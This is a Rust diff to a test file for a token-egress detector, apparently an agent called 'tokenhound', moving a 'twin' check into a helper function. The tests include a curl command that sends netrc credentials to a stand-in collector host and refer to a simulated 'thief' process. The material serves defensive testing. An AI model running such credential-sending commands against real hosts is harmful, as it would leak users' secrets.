@@ -76,6 +76,21 @@ fn told<'f>(findings: &'f [Finding], text: &str) -> Option<&'f Finding> {
     findings.iter().find(|finding| finding.detector() == "token-egress" && finding.mentions(text))
 }
 
+/// An expected reader, in a network and among mounts that are gone with it. What comes of it would be told before the next
+/// thief's read.
+fn twin(stage: &Stage, agent: &mut Agent<'_>, home: &Path, store: &Path) {
+    let twin = in_network(stage, home, "twin", "curl -sS -m 60 --netrc http://collector.invalid:8443/");
+    let ended = twin.wait_with_output().unwrap();
+    assert!(ended.status.success(), "{ended:?}");
+    agent.provoke("/dd read", || {
+        let from = format!("if={}", store.display());
+        assert_eq!(process::run(Command::new("dd").arg(from).current_dir("/"), b"").code(), 0);
+    });
+    let found = agent.findings("");
+    let of_twin: Vec<_> = found.iter().filter(|one| one.reader().ends_with("/curl")).collect();
+    assert!(of_twin.is_empty(), "{of_twin:?}");
+}
+
 #[test]
 fn datagrams_are_told_and_connections_by_the_name_that_was_asked_for() {
     let tools = ["unshare", "ip", "mount", "mkfifo", "python3", "curl"];
@@ -100,20 +115,9 @@ fn datagrams_are_told_and_connections_by_the_name_that_was_asked_for() {
     let ended = thief.wait().unwrap();
     assert!(ended.success(), "{ended:?}");
 
-    // The twin: an expected reader, in a network and among mounts that are gone with it, before the next thief.
-    let twin = in_network(&stage, &ann, "twin", "curl -sS -m 60 --netrc http://collector.invalid:8443/");
-    let ended = twin.wait_with_output().unwrap();
-    assert!(ended.status.success(), "{ended:?}");
-    agent.provoke(&store.display().to_string(), || {
-        assert_eq!(
-            process::run(Command::new("dd").arg(format!("if={}", store.display())).current_dir("/"), b"").code(),
-            0
-        );
-    });
+    twin(&stage, &mut agent, &ann, &store);
 
     let findings = agent.findings("");
-    let of_twin: Vec<_> = findings.iter().filter(|one| one.reader().ends_with("/curl")).collect();
-    assert!(of_twin.is_empty(), "{of_twin:?}");
     let by_name = told(&findings, "203.0.113.7:8443").unwrap();
     let service = by_name.0.pointer("/unmapped/tokenhound/service").unwrap();
     assert_eq!((&service["name"], &service["name_from"]), (&"collector.invalid".into(), &"dns".into()), "{service}");
